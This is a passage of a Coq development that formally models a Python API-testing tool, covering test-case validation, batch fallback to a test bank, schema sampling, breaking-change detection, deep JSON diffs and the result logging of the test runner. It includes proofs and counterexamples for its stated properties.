     end.

Definition case_passes (w : World) (test_case : dict) : bool :=
  request_passes w
    (get_or test_case "method" (JStr "GET"))
    (get_or test_case "expected_status" (JInt 200))
    (get_or test_case "expected_body" JNull)
    (get_or test_case "expected_schema" JNull)
    (get_or test_case "validate_body" (JBool false)).

(** The world as this tester meets it: the call ends as [http_call] has it. *)
Definition met_by (self : APITester) (w : World) : World :=
  {| outcome := http_call self w; now := now w; analysis := analysis w |}.

(** The number of the cases, numbered from [i] on, that pass. *)
Fixpoint passing_cases (world : nat -> World) (i : nat) (test_cases : list dict) : Z :=
  match test_cases with
  | [] => 0
  | test_case :: rest =>
      (if case_passes (world i) test_case then 1 else 0)
      + passing_cases world (S i) rest
  end.

End Verdict.

(** *** What the runner needs of a test case *)

(** The value of key [k] is there and satisfies [ok]. *)
Definition has_value (k : string) (ok : json -> bool) (test : dict) : bool :=
  match dict_get k test with Some v => ok v | None => false end.

(** A non-empty list of integer status codes. *)
Definition status_codes (v : json) : bool :=
  match v with
  | JArr (c :: cs) =>
      forallb (fun c => match c with JInt _ => true | _ => false end) (c :: cs)
  | _ => false
  end.

Definition is_False (v : json) : bool :=
  match v with JBool false => true | _ => false end.

Definition bank_category (v : json) : bool :=
  match v with
  | JStr c => mem_string c ["security_test"; "happy_path"; "negative_test";
                            "edge_case"; "fuzz_test"]
  | _ => false
  end.

(** A template as the bank writes it down: a method the tester sends, an
    endpoint, the acceptable status codes, a description, and no expected
    body or schema. *)
Definition template_ok (test : dict) : bool :=
  has_value "method" supported_method test
  && has_value "endpoint" isinstance_str test
  && has_value "expected_status" status_codes test
  && has_value "description" isinstance_str test
  && negb (dict_has "expected_body" test)
  && negb (dict_has "expected_schema" test).

(** A test case of the bank as the runner gets it. *)
Definition bank_test (test : dict) : bool :=
  template_ok test
  && has_value "category" bank_category test
  && dict_has "data" test
  && dict_has "params" test
  && has_value "validate_body" is_False test.

(** *** The batches of a large generation *)

(** The reply to the call made for the batch at [batch_idx], when there is
    a client. *)
Definition reply_of (client : Client) (batch_idx : nat) : option Reply :=
  option_map (fun replies => replies batch_idx) client.

Section Batches.
Context `{Builtins}.

(** The test cases a reply supplies: the dictionaries among its items, each
    one fixed; nothing when there is no reply to parse, when it holds no
    tests, or when they cannot be iterated. *)
Definition provided (reply : option Reply) : option (list dict) :=
  match reply with
  | Some (ReplyJson parsed) =>
      match tests_of_parsed parsed with
      | Some test_cases =>
          match py_iter test_cases with
          | Ok items => Some (validated_cases items)
          | Raise _ => None
          end
      | None => None
      end
  | _ => None
  end.

(** What a batch of [batch_test_count] tests is made of, given the reply to
    its call.  At least seven tenths of the count supplied: the supplied
    tests as they are, the fallback flag clear.  Fewer: the supplied tests
    first, then tests of the bank up to the count, the flag set.  Nothing
    supplied: that many tests of the bank, the flag set. *)
Definition batch_made_of (reply : option Reply) (batch_test_count : Z)
  (batch_tests : list dict) (batch_fallback : bool) : Prop :=
  match provided reply with
  | Some valid_cases =>
      if 7 * batch_test_count <=? 10 * len valid_cases then
        batch_tests = valid_cases /\ batch_fallback = false
      else
        exists extra : list dict,
          batch_tests = valid_cases ++ extra
          /\ forallb bank_test extra = true
          /\ len batch_tests = batch_test_count
          /\ batch_fallback = true
  | None =>
      forallb bank_test batch_tests = true
      /\ len batch_tests = batch_test_count
      /\ batch_fallback = true
  end.

(** All the test cases the provider supplies for the first [batches]
    batches, in the order of the batches. *)
Definition provided_by (client : Client) (batches : nat) : list dict :=
  flat_map (fun batch_idx =>
              match provided (reply_of client batch_idx) with
              | Some valid_cases => valid_cases
              | None => []
              end) (seq 0 batches).

End Batches.

(** *** What every generated test case has *)

(** An integer status, or a non-empty list of them. *)
Definition status_or_codes (v : json) : bool :=
  match v with JInt _ => true | _ => status_codes v end.

(** The eight keys are there, the method is a string and the expected
    status an integer or a list of integers. *)
Definition runner_ready (test : dict) : bool :=
  forallb (fun k => dict_has k test) fixed_keys
  && has_value "method" isinstance_str test
  && has_value "expected_status" status_or_codes test.

(** How many calls of the provider a generation of [num_tests] tests can
    make: one for each batch of 40 above 50 tests, else the three attempts. *)
Definition provider_calls (num_tests : Z) : nat :=
  if 50 <? num_tests then Z.to_nat (total_batches num_tests) else max_retries.

(** *** Sample data from a schema *)

(** [generate_sample_value] calls [generate_sample_from_schema] on the same
    schema when its type is [object], which in turn calls
    [generate_sample_value] on the schema of each property.  The recursion
    is written here on the structure of the schema: [sample_fields] is the
    loop over [properties.items()] and [sample_properties] the lookup of
    [properties], with [{}] when the key is absent. *)
Fixpoint generate_sample_value (schema : json) : result json :=
  let sample_fields :=
    fix sample_fields (items : list (string * json)) (sample : dict) : result dict :=
      match items with
      | [] => Ok sample
      | (field, field_schema) :: rest =>
          v <- generate_sample_value field_schema ;;
          sample_fields rest (dict_set field v sample)
      end in
  let sample_properties :=
    fix sample_properties (kvs : list (string * json)) : result dict :=
      match kvs with
      | [] => Ok []
      | (k, properties) :: rest =>
          if String.eqb "properties" k then
            match properties with
            | JObj items => sample_fields items []
            | _ => Raise (AttributeError ("'" +++ type_name properties
                                          +++ "' object has no attribute 'items'"))
            end
          else sample_properties rest
      end in
  match schema with
  | JObj kvs =>
      let field_type :=
        match dict_get "type" kvs with Some t => t | None => JStr "string" end in
      let example (default : json) :=
        match dict_get "example" kvs with Some v => v | None => default end in
      if py_eq field_type (JStr "string") then Ok (example (JStr "test-string"))
      else if py_eq field_type (JStr "number") then
        Ok (example (JFloat (float_lit 12345 100)))
      else if py_eq field_type (JStr "integer") then Ok (example (JInt 123))
      else if py_eq field_type (JStr "boolean") then Ok (example (JBool true))
      else if py_eq field_type (JStr "object") then
        sample <- sample_properties kvs ;; Ok (JObj sample)
      else if py_eq field_type (JStr "array") then Ok (JArr [])
      else Ok JNull
  | _ => Raise (AttributeError ("'" +++ type_name schema
                                +++ "' object has no attribute 'get'"))
  end.

(** [for field, field_schema in properties.items():
       sample[field] = generate_sample_value(field_schema)] *)
Fixpoint sample_fields (items : dict) (sample : dict) : result dict :=
  match items with
  | [] => Ok sample
  | (field, field_schema) :: rest =>
      v <- generate_sample_value field_schema ;;
      sample_fields rest (dict_set field v sample)
  end.

Definition generate_sample_from_schema (schema : json) : result json :=
  schema_type <- py_get schema "type" JNull ;;
  if py_eq schema_type (JStr "object") then
    properties <- py_get schema "properties" (JObj []) ;;
    items <- py_items properties ;;
    sample <- sample_fields items [] ;;
    Ok (JObj sample)
  else
    schema_type <- py_get schema "type" JNull ;;
    if py_eq schema_type (JStr "array") then Ok (JArr [])
    else generate_sample_value schema.

(** [generate_sample_value] as the source has it, with its call of
    [generate_sample_from_schema]. *)
Definition generate_sample_value_source (schema : json) : result json :=
  field_type <- py_get schema "type" (JStr "string") ;;
  if py_eq field_type (JStr "string") then py_get schema "example" (JStr "test-string")
  else if py_eq field_type (JStr "number") then
    py_get schema "example" (JFloat (float_lit 12345 100))
  else if py_eq field_type (JStr "integer") then py_get schema "example" (JInt 123)
  else if py_eq field_type (JStr "boolean") then py_get schema "example" (JBool true)
  else if py_eq field_type (JStr "object") then generate_sample_from_schema schema
  else if py_eq field_type (JStr "array") then Ok (JArr [])
  else Ok JNull.

(** *** Breaking changes between two schemas *)

Inductive breaking_type := field_removed | field_type_changed | field_made_required.

(** An entry of the list [breaking]; [old_type] and [new_type] are [None]
    where the dictionary of the source has no such key. *)
Record BreakingChange := {
  bc_type : breaking_type;
  bc_field : json;
  old_type : option json;
  new_type : option json;
  severity : string;
  bc_message : string
}.

Section Schemas.
Context `{Builtins}.

(** [for field in old_props: if field not in new_props: breaking.append(...)] *)
Definition removed_fields (old_props new_props : dict) : list BreakingChange :=
  flat_map (fun kv =>
              let field := fst kv in
              if negb (dict_has field new_props) then
                [ {| bc_type := field_removed; bc_field := JStr field;
                     old_type := None; new_type := None; severity := "breaking";
                     bc_message := "Field '" +++ field +++ "' was removed" |} ]
              else []) old_props.

(** [for field in old_props: if field in new_props: ...]; the [get] of a
    property schema that is not a dictionary raises. *)
Fixpoint changed_types (items new_props : dict) : result (list BreakingChange) :=
  match items with
  | [] => Ok []
  | (field, old_field_schema) :: rest =>
      match dict_get field new_props with
      | Some new_field_schema =>
          old_t <- py_get old_field_schema "type" JNull ;;
          new_t <- py_get new_field_schema "type" JNull ;;
          more <- changed_types rest new_props ;;
          Ok ((if negb (py_eq old_t new_t) then
                 [ {| bc_type := field_type_changed; bc_field := JStr field;
                      old_type := Some old_t; new_type := Some new_t;
                      severity := "breaking";
                      bc_message := "Field '" +++ field +++ "' type changed from "
                                    +++ py_str old_t +++ " to " +++ py_str new_t |} ]
               else []) ++ more)
      | None => changed_types rest new_props
      end
  end.

(** [for field in new_required: if field not in old_required: ...]; the
    members of a list are compared with [==]. *)
Definition newly_required (old_required new_required : list json)
  : list BreakingChange :=
  flat_map (fun field =>
              if negb (existsb (py_eq field) old_required) then
                [ {| bc_type := field_made_required; bc_field := field;
                     old_type := None; new_type := None; severity := "breaking";
                     bc_message := "Field '" +++ py_str field +++ "' is now required" |} ]
              else []) new_required.

(** [compare_schemas(old_schema, new_schema)["breaking"]], for two
    dictionaries whose [properties], where given, is a dictionary and whose
    [required], where given, is a list, as JSON Schema has them; [None] for
    schemas of another shape, which are left out. *)
Definition compare_schemas (old_schema new_schema : dict)
  : option (result (list BreakingChange)) :=
  match get_or old_schema "properties" (JObj []),
        get_or new_schema "properties" (JObj []),
        get_or old_schema "required" (JArr []),
        get_or new_schema "required" (JArr []) with
  | JObj old_props, JObj new_props, JArr old_required, JArr new_required =>
      Some (type_changes <- changed_types old_props new_props ;;
            Ok (removed_fields old_props new_props ++ type_changes
                ++ newly_required old_required new_required))
  | _, _, _, _ => None
  end.

End Schemas.

(** *** The body check of a regression test *)

(** The comparison of the response body with the baseline in the
    regression test of [backend.py]: the list of changes that is recorded
    (and fails the test), or [None] when nothing is recorded. *)
Definition body_check (baseline_body response_data : json) : option (list Difference) :=
  if negb (py_eq response_data baseline_body) then
    let body_diffs := find_json_differences baseline_body response_data "" in
    match body_diffs with
    | [] => None
    | _ => Some body_diffs
    end
  else None.

(** *** The headers of a request *)

Section Headers.
Context `{Builtins}.

(** The header that the configuration of the tester stands for, if any:
    its key and its value. *)
Definition auth_header (self : APITester) : option (json * json) :=
  let config := auth_config self in
  let auth_type := get_or config "type" (JStr "none") in
  if py_eq auth_type (JStr "bearer") then
    let token := get_or config "token" (JStr "") in
    if py_truthy token
    then Some (JStr "Authorization", JStr ("Bearer " +++ py_str token))
    else None
  else if py_eq auth_type (JStr "api_key") then
    if py_truthy (get_or config "api_key" (JStr "")) then
      Some (get_or config "key_name" (JStr "X-API-Key"),
            get_or config "api_key" (JStr ""))
    else None
  else None.

(** The custom headers given, none when the argument is [None]. *)
Definition custom_of (custom_headers : option dict) : dict :=
  match custom_headers with Some custom => custom | None => [] end.

(** A header of the custom headers, else the default one. *)
Definition plain_header (custom_headers : option dict) (name : string) : option json :=
  match dict_get name (custom_of custom_headers) with
  | Some v => Some v
  | None => dict_get name [("Content-Type", JStr "application/json")]
  end.

(** A value that can be a key of a dictionary. *)
Definition hashable (v : json) : bool :=
  match v with JArr _ | JObj _ => false | _ => true end.

(** Headers all of whose keys are strings. *)
Definition string_keys (headers : Headers) : bool :=
  forallb (fun kv => isinstance_str (fst kv)) headers.

End Headers.

(** *** The violations found before any exception *)

Definition plain_violation (v : SchemaViolation) : Prop :=
  sv_type v = "type_mismatch" \/ sv_type v = "missing_required_field".

(* ================================================================== *)
(** ** Properties of the schema validator *)

Section BackendFacts.
Context `{Builtins}.

(** C10. A boolean passes for an integer and for a number: for every
    boolean [b] and every path, [validate_field] reports nothing when the
    schema asks for the type [integer] or for the type [number]. *)
Theorem validate_field_bool_passes_as_number :
  forall (b : bool) (p : json),
    validate_field (JBool b) (JObj [("type", JStr "integer")]) p = Ok []
    /\ validate_field (JBool b) (JObj [("type", JStr "number")]) p = Ok [].
Proof.
  intros b p; split; reflexivity.
Qed.

Lemma count_missing_app (f : string) (xs ys : list SchemaViolation) :
  count_missing_required f (xs ++ ys)
  = (count_missing_required f xs + count_missing_required f ys)%nat.
Proof.
  unfold count_missing_required.
  now rewrite filter_app, length_app.
Qed.

Lemma count_missing_other (f : string) (errs : list SchemaViolation) :
  Forall other_kind errs -> count_missing_required f errs = 0%nat.
Proof.
  unfold count_missing_required.
  induction 1 as [| v errs Hv _ IH]; simpl; [reflexivity |].
  unfold is_missing_required at 1.
  destruct (String.eqb_spec (sv_type v) "missing_required_field") as [E | _].
  - now elim Hv.
  - exact IH.
Qed.

Lemma count_missing_validation_error (f : string) (e : py_exception) :
  count_missing_required f [validation_error e] = 0%nat.
Proof. reflexivity. Qed.

Lemma validate_field_other (value schema p : json) (errs : list SchemaViolation) :
  validate_field value schema p = Ok errs -> Forall other_kind errs.
Proof.
  unfold validate_field.
  destruct (py_get schema "type" JNull) as [t | e]; simpl; [| discriminate].
  repeat match goal with
         | |- context [if ?c then _ else _] => destruct c
         end;
    intros E; injection E as <-; repeat constructor; discriminate.
Qed.

Lemma check_properties_other (items fields : dict) :
  Forall other_kind (fst (check_properties items fields)).
Proof.
  induction items as [| [k s] items IH]; simpl; [constructor |].
  destruct (check_properties items fields) as [errs r].
  destruct (dict_get k fields) as [value |]; simpl.
  - destruct (validate_field value s (JStr k)) as [ferrs | e] eqn:E; simpl.
    + apply Forall_app; split; [| exact IH].
      rewrite ?app_nil_r. now apply validate_field_other in E.
    + constructor.
  - exact IH.
Qed.

Lemma check_required_names (required : list json) (fields : dict) :
  forallb isinstance_str required = true ->
  exists errs,
    check_required required fields = (errs, Ok tt)
    /\ forall f, dict_get f fields = None ->
                 count_missing_required f errs = listed f required.
Proof.
  induction required as [| v required IH]; simpl; intros Hs.
  - exists []. split; [reflexivity | reflexivity].
  - apply andb_prop in Hs as [Hv Hs].
    destruct (IH Hs) as (errs & E & Hcount).
    destruct v as [ | | | | s | | ]; try discriminate.
    simpl. rewrite E. unfold dict_has.
    destruct (dict_get s fields) as [x |] eqn:G; simpl.
    + exists errs. split; [reflexivity |].
      intros f Hf. rewrite (Hcount f Hf). unfold listed; simpl.
      destruct (String.eqb_spec s f) as [-> | _]; [congruence | reflexivity].
    + exists (missing_required (JStr s) :: errs). split; [reflexivity |].
      intros f Hf. unfold listed, count_missing_required in *; simpl.
      unfold is_missing_required at 1; simpl.
      destruct (String.eqb_spec s f) as [-> | _]; simpl; now rewrite (Hcount f Hf).
Qed.

(** C7, as the code has it.  For an object-typed schema whose [required]
    list holds field names, and a mapping that omits the field [f], the
    number of [missing_required_field] violations reported for [f] is the
    number of times [f] is listed in [required] (one when it is listed
    once), whatever the properties of the schema and the other fields of
    the mapping are. *)
Theorem missing_required_once_per_listing :
  forall (schema fields : dict) (required : list json) (f : string),
    dict_get "type" schema = Some (JStr "object") ->
    dict_get "required" schema = Some (JArr required) ->
    forallb isinstance_str required = true ->
    dict_get f fields = None ->
    count_missing_required f (validate_against_schema (JObj fields) (JObj schema))
    = listed f required.
Proof.
  intros schema fields required f Ht Hr Hs Hf.
  unfold validate_against_schema, validate_against_schema_try; simpl.
  rewrite Ht, Hr; simpl.
  destruct (check_required_names required fields Hs) as (errs & E & Hcount).
  rewrite E; simpl.
  destruct (dict_get "properties" schema) as [props |]; simpl.
  - destruct (py_items props) as [items | e]; simpl.
    + pose proof (check_properties_other items fields) as Ho.
      destruct (check_properties items fields) as [perrs [u | e]]; simpl in *;
        rewrite ?app_nil_r, ?count_missing_app, (count_missing_other f perrs Ho),
          (Hcount f Hf), ?count_missing_validation_error; lia.
    + rewrite ?app_nil_r, ?count_missing_app, (Hcount f Hf),
        count_missing_validation_error; lia.
  - rewrite ?app_nil_r, (Hcount f Hf); reflexivity.
Qed.

End BackendFacts.

(** C7 as stated fails: with [email] listed twice in [required], an empty
    mapping gets two [missing_required_field] violations for it. *)
Lemma missing_required_listed_twice :
  let schema := JObj [("type", JStr "object");
                      ("required", JArr [JStr "email"; JStr "email"])] in
  let n := count_missing_required "email"
             (validate_against_schema (H := plain_builtins) (JObj []) schema) in
  n = 2%nat /\ n <> 1%nat.
Proof.
  vm_compute. split; [reflexivity | discriminate].
Qed.

Lemma missing_required_witness :
  count_missing_required "email"
    (validate_against_schema (H := plain_builtins)
       (JObj [("name", JInt 7)])
       (JObj [("type", JStr "object");
              ("required", JArr [JStr "name"; JStr "email"]);
              ("properties", JObj [("name", JObj [("type", JStr "string")])])]))
  = listed "email" [JStr "name"; JStr "email"].
Proof.
  apply (missing_required_once_per_listing (H := plain_builtins)
           [("type", JStr "object");
            ("required", JArr [JStr "name"; JStr "email"]);
            ("properties", JObj [("name", JObj [("type", JStr "string")])])]
           [("name", JInt 7)] [JStr "name"; JStr "email"] "email");
    reflexivity.
Defined.

(* ================================================================== *)
(** ** Properties of the deep diff *)

Lemma json_induction (P : json -> Prop) :
  P JNull ->
  (forall b, P (JBool b)) ->
  (forall n, P (JInt n)) ->
  (forall x, P (JFloat x)) ->
  (forall s, P (JStr s)) ->
  (forall xs, Forall P xs -> P (JArr xs)) ->
  (forall kvs, Forall (fun kv => P (snd kv)) kvs -> P (JObj kvs)) ->
  forall v, P v.
Proof.
  intros HNull HBool HInt HFloat HStr HArr HObj.
  fix IH 1.
  intros [ | b | n | x | s | xs | kvs ].
  - exact HNull.
  - apply HBool.
  - apply HInt.
  - apply HFloat.
  - apply HStr.
  - apply HArr. induction xs as [| v xs IHxs]; constructor; [apply IH | exact IHxs].
  - apply HObj. induction kvs as [| kv kvs IHkvs]; constructor; [apply IH | exact IHkvs].
Qed.

Lemma exact_compare_refl (x : exact_number) :
  x <> NotANumber -> exact_compare x x = Some Eq.
Proof.
  destruct x as [m e | | |]; simpl; intros Hx; try reflexivity.
  - now rewrite Z.compare_refl.
  - now elim Hx.
Qed.

Lemma flat_map_nil {A B : Type} (f : A -> list B) (l : list A) :
  (forall x, In x l -> f x = []) -> flat_map f l = [].
Proof.
  induction l as [| a l IH]; simpl; intros Hf; [reflexivity |].
  rewrite (Hf a (or_introl eq_refl)), IH; [reflexivity |].
  intros x Hx. apply Hf. now right.
Qed.

Lemma mem_string_In (k : string) (l : list string) :
  mem_string k l = true <-> In k l.
Proof.
  induction l as [| k' l IH]; simpl; [easy |].
  rewrite orb_true_iff, IH.
  destruct (String.eqb_spec k k') as [-> | Hn]; intuition congruence.
Qed.

Lemma dict_get_entry {A : Type} (d : list (string * A)) (k : string) (v : A) :
  nodup_keys (map fst d) = true -> In (k, v) d -> dict_get k d = Some v.
Proof.
  induction d as [| [k' v'] d IH]; simpl; [easy |].
  intros Hd [E | Hin].
  - injection E as -> ->. now rewrite String.eqb_refl.
  - apply andb_prop in Hd as [Hk Hd].
    destruct (String.eqb_spec k k') as [-> | _]; [| now apply IH].
    apply negb_true_iff in Hk.
    assert (mem_string k' (map fst d) = true) as Hm
        by (apply mem_string_In, in_map_iff; now exists (k', v)).
    congruence.
Qed.

(** C6, as the code has it.  The deep diff of a value against itself is
    empty for every value that holds no NaN: for every JSON-like value [X]
    (any nesting of mappings, sequences and scalars, the keys of a mapping
    being distinct) none of whose floats is NaN, and every path,
    [find_json_differences X X] is the empty list. *)
Theorem diff_self_is_empty :
  forall (X : json) (p : string),
    json_wf X = true -> has_nan X = false -> find_json_differences X X p = [].
Proof.
  intros X.
  induction X as [ | b | n | x | s | xs IH | kvs IH ] using json_induction;
    intros p Hwf Hnan.
  - reflexivity.
  - destruct b; reflexivity.
  - simpl. now rewrite Z.compare_refl.
  - simpl. rewrite exact_compare_refl; [reflexivity |].
    destruct x; simpl in *; try discriminate; destruct s; discriminate.
  - simpl. now rewrite String.eqb_refl.
  - simpl. rewrite Nat.eqb_refl; simpl.
    simpl in Hwf, Hnan. generalize 0%nat.
    induction IH as [| v xs Hv _ IHxs]; intros i; [reflexivity |].
    simpl in Hwf, Hnan.
    apply andb_prop in Hwf as [Hwv Hwxs].
    apply orb_false_elim in Hnan as [Hnv Hnxs].
    now rewrite (Hv _ Hwv Hnv), (IHxs Hwxs Hnxs).
  - simpl. simpl in Hwf, Hnan.
    apply andb_prop in Hwf as [Hkeys Hwf].
    rewrite forallb_forall in Hwf. rewrite Forall_forall in IH.
    assert (Hn : forall kv, In kv kvs -> has_nan (snd kv) = false).
    { intros kv Hin. destruct (has_nan (snd kv)) eqn:E; [| reflexivity].
      rewrite <- Hnan. symmetry. apply existsb_exists. now exists kv. }
    rewrite !flat_map_nil; [reflexivity | |].
    + intros [k v] Hin. unfold dict_has; simpl.
      now rewrite (dict_get_entry kvs k v Hkeys Hin).
    + intros [k v] Hin; simpl.
      rewrite (dict_get_entry kvs k v Hkeys Hin).
      apply (IH (k, v) Hin); [apply (Hwf (k, v) Hin) | apply (Hn (k, v) Hin)].
Qed.

(** C6 as stated fails: NaN differs from itself, so the diff of NaN
    against itself reports a changed value. *)
Lemma diff_nan_with_itself :
  find_json_differences (JFloat S754_nan) (JFloat S754_nan) ""
  = [ {| path := "root"; baseline_value := JFloat S754_nan;
         current_value := JFloat S754_nan; change := value_changed |} ]
  /\ find_json_differences (JFloat S754_nan) (JFloat S754_nan) "" <> [].
Proof.
  split; [reflexivity | discriminate].
Qed.

Lemma diff_self_witness :
  find_json_differences
    (JObj [("id", JInt 1); ("tags", JArr [JStr "a"; JFloat float_max]); ("owner", JNull)])
    (JObj [("id", JInt 1); ("tags", JArr [JStr "a"; JFloat float_max]); ("owner", JNull)])
    "" = [].
Proof.
  apply (diff_self_is_empty
           (JObj [("id", JInt 1); ("tags", JArr [JStr "a"; JFloat float_max]);
                  ("owner", JNull)]) ""); reflexivity.
Defined.

(* ================================================================== *)
(** ** Properties of the test runner *)

Section TesterFacts.
Context `{Builtins}.

Lemma results_log_result self w name st det rd ai :
  results (log_result self w name st det rd ai)
  = results self
    ++ [ {| test := name; status := st; details := det; timestamp := now w;
            response_data := rd;
            ai_analysis := if py_truthy ai then Some ai else None |} ].
Proof. reflexivity. Qed.

(** C5.  For every response to a request the tester sends, one result is
    logged, and it is PASS if and only if the status code matches the
    expectation (equals it, or is a member of it when it is a list) and the
    body is valid, the body being checked only when [validate_body] is set
    and the status matches; the one other way the evaluation of a response
    ends is that the schema check itself raises, and then nothing is
    marked.  With the expected status [200, 404] and [validate_body] left at
    its default, a response with status 404 is logged PASS whatever its
    body, and a response with status 500 is logged FAIL. *)
Theorem pass_iff_status_and_body :
  forall (self : APITester) (w : World) (response : Response)
         (method endpoint data expected_status : json) (headers : option dict)
         (name : option string)
         (params expected_body expected_schema validate_body : json)
         (request_headers : Headers),
    _get_headers self headers = Ok request_headers ->
    supported_method method = true ->
    http_call self w = Responded response ->
    match test_request self w method endpoint data expected_status headers name
            params expected_body expected_schema validate_body with
    | Returns (self', returned) =>
        exists r,
          results self' = results self ++ [r]
          /\ (status r = PASS <->
              status_match (status_code response) expected_status = true
              /\ (py_truthy validate_body = true ->
                  exists message,
                    _validate_response_body response expected_body expected_schema
                    = Returns (true, message)))
    | Escapes e =>
        py_truthy validate_body = true
        /\ status_match (status_code response) expected_status = true
        /\ _validate_response_body response expected_body expected_schema = Escapes e
    end
    /\ (expected_status = JArr [JInt 200; JInt 404] ->
        status_code response = 404 -> py_truthy validate_body = false ->
        exists self' returned r,
          test_request self w method endpoint data expected_status headers name
            params expected_body expected_schema validate_body
          = Returns (self', returned)
          /\ results self' = results self ++ [r] /\ status r = PASS)
    /\ (expected_status = JArr [JInt 200; JInt 404] ->
        status_code response = 500 ->
        exists self' returned r,
          test_request self w method endpoint data expected_status headers name
            params expected_body expected_schema validate_body
          = Returns (self', returned)
          /\ results self' = results self ++ [r] /\ status r = FAIL).
Proof.
  intros self w response method endpoint data expected_status headers name
         params expected_body expected_schema validate_body request_headers
         Hh Hm Hw.
  unfold test_request. rewrite Hh, Hm, Hw. cbn [negb].
  split; [| split].
  - destruct (status_match (status_code response) expected_status) eqn:Em;
      destruct (py_truthy validate_body) eqn:Ev; cbn [andb];
      [ destruct (_validate_response_body response expected_body expected_schema)
          as [[[|] msg] | e] | | | ];
      cbn [andb]; try rewrite results_log_result;
      try (eexists; (split; [reflexivity |]); cbn [status]);
      try (split; [intros _; split; [reflexivity | intros _; now eexists]
                  | reflexivity]);
      try (split; [discriminate | intros [_ Hb]; destruct (Hb eq_refl) as [m Hm'];
                                  discriminate Hm']);
      try (split; [intros _; split; [reflexivity | discriminate] | reflexivity]);
      try (split; [discriminate | intros [Hc _]; discriminate Hc]);
      try (repeat split; reflexivity).
  - intros -> Hc Hv. rewrite Hc, Hv. cbn [andb status_match existsb py_eq].
    eexists _, _, _. split; [reflexivity |].
    rewrite results_log_result. split; reflexivity.
  - intros -> Hc. rewrite Hc.
    replace (status_match 500 (JArr [JInt 200; JInt 404])) with false by reflexivity.
    rewrite andb_false_r. cbn [andb].
    eexists _, _, _. split; [reflexivity |].
    rewrite results_log_result. split; reflexivity.
Qed.

(** Logging keeps the configuration of the tester. *)
Lemma test_request_keeps_config self w method endpoint data expected_status headers
      name params expected_body expected_schema validate_body self' returned :
  test_request self w method endpoint data expected_status headers name
    params expected_body expected_schema validate_body = Returns (self', returned) ->
  auth_config self' = auth_config self /\ timeout self' = timeout self.
Proof.
  unfold test_request.
  destruct (_get_headers self headers) as [hs | e]; [| discriminate].
  destruct (supported_method method); cbn [negb];
    [| intros [= <- _]; split; reflexivity].
  destruct (http_call self w) as [response | | msg | e];
    try (intros [= <- _]; split; reflexivity); try discriminate.
  destruct (if py_truthy validate_body
               && status_match (status_code response) expected_status
            then _validate_response_body response expected_body expected_schema
            else Returns (true, "")) as [[valid message] | e]; [| discriminate].
  destruct (status_match (status_code response) expected_status && valid);
    intros [= <- _]; split; reflexivity.
Qed.

Lemma get_headers_config (self self' : APITester) (headers : option dict) :
  auth_config self' = auth_config self ->
  _get_headers self' headers = _get_headers self headers.
Proof. unfold _get_headers. now intros ->. Qed.

Lemma http_call_config (self self' : APITester) (w : World) :
  timeout self' = timeout self -> http_call self' w = http_call self w.
Proof. unfold http_call. now intros ->. Qed.

(** What a request of the runner logs when it returns, and why it does
    not return when it does not. *)
Lemma test_request_logs_one self w method endpoint data expected_status headers name
      params expected_body expected_schema validate_body :
  match test_request self w method endpoint data expected_status headers (Some name)
          params expected_body expected_schema validate_body with
  | Returns (self', _) =>
      exists r,
        results self' = results self ++ [r]
        /\ test r = name
        /\ (http_call self w = Timeout
            \/ (exists msg, http_call self w = RequestError msg) ->
            status r = FAIL)
  | Escapes e =>
      (exists e', e = PyError e' /\ _get_headers self headers = Raise e')
      \/ (supported_method method = true
          /\ (http_call self w = Raises e
              \/ exists response,
                   http_call self w = Responded response
                   /\ py_truthy validate_body = true
                   /\ status_match (status_code response) expected_status = true
                   /\ _validate_response_body response expected_body expected_schema
                      = Escapes e))
  end.
Proof.
  unfold test_request.
  destruct (_get_headers self headers) as [hs | e]; [| left; now exists e].
  destruct (supported_method method); cbn [negb].
  - destruct (http_call self w) as [response | | msg | e] eqn:Ew.
    + destruct (py_truthy validate_body) eqn:Ev;
        destruct (status_match (status_code response) expected_status) eqn:Em;
        cbn [andb];
        [ destruct (_validate_response_body response expected_body expected_schema)
            as [[[|] message] | e] eqn:Eb | | | ];
        cbn [andb]; try rewrite results_log_result;
        try (eexists; (split; [reflexivity |]); (split; [reflexivity |]);
             intros [Ht | [m Hr]]; discriminate).
      right. split; [reflexivity |]. right. exists response. now repeat split.
    + rewrite results_log_result. eexists. repeat split.
    + rewrite results_log_result. eexists. repeat split.
    + right. split; [reflexivity |]. now left.
  - rewrite results_log_result. eexists. repeat split;
      intros [Ht | [m Hr]]; reflexivity.
Qed.

(** When no exception escapes a request. *)
Lemma test_request_returns self w method endpoint data expected_status headers name
      params expected_body expected_schema validate_body request_headers :
  _get_headers self headers = Ok request_headers ->
  (forall e, http_call self w <> Raises e) ->
  (forall instance e, jsonschema_validate instance expected_schema <> SchemaRaises e) ->
  exists self' returned,
    test_request self w method endpoint data expected_status headers name
      params expected_body expected_schema validate_body = Returns (self', returned).
Proof.
  intros Hh Hw Hs. unfold test_request. rewrite Hh.
  destruct (supported_method method); cbn [negb]; [| now eexists _, _].
  destruct (http_call self w) as [response | | msg | e] eqn:Ew;
    try (now eexists _, _); [| now elim (Hw e)].
  assert (Hb : exists valid message,
             _validate_response_body response expected_body expected_schema
             = Returns (valid, message)).
  { unfold _validate_response_body.
    destruct (json_body response) as [response_json |]; [| now eexists _, _].
    destruct (py_truthy expected_body);
      [destruct (py_eq response_json expected_body); now eexists _, _ |].
    destruct (py_truthy expected_schema); [| now eexists _, _].
    destruct (jsonschema_validate response_json expected_schema) as [| m | e] eqn:Ej;
      try (now eexists _, _).
    now elim (Hs response_json e). }
  destruct Hb as (valid & message & ->).
  destruct (py_truthy validate_body
            && status_match (status_code response) expected_status);
    [destruct (status_match (status_code response) expected_status && valid)
    | destruct (status_match (status_code response) expected_status && true)];
    now eexists _, _.
Qed.

Lemma run_from_logs self world i test_cases :
  exists rs,
    results (fst (run_from self world i test_cases)) = results self ++ rs
    /\ auth_config (fst (run_from self world i test_cases)) = auth_config self
    /\ timeout (fst (run_from self world i test_cases)) = timeout self
    /\ (List.length rs <= List.length test_cases)%nat
    /\ (forall k r, nth_error rs k = Some r ->
          exists tc, nth_error test_cases k = Some tc
                     /\ test r = runner_test_name (i + k) tc
                     /\ (http_call self (world (i + k)%nat) = Timeout
                         \/ (exists msg,
                               http_call self (world (i + k)%nat) = RequestError msg) ->
                         status r = FAIL))
    /\ (snd (run_from self world i test_cases) = None
        <-> List.length rs = List.length test_cases)
    /\ (forall e, snd (run_from self world i test_cases) = Some e ->
          exists tc,
            nth_error test_cases (List.length rs) = Some tc
            /\ run_one (fst (run_from self world i test_cases))
                 (world (i + List.length rs)%nat) (i + List.length rs) tc
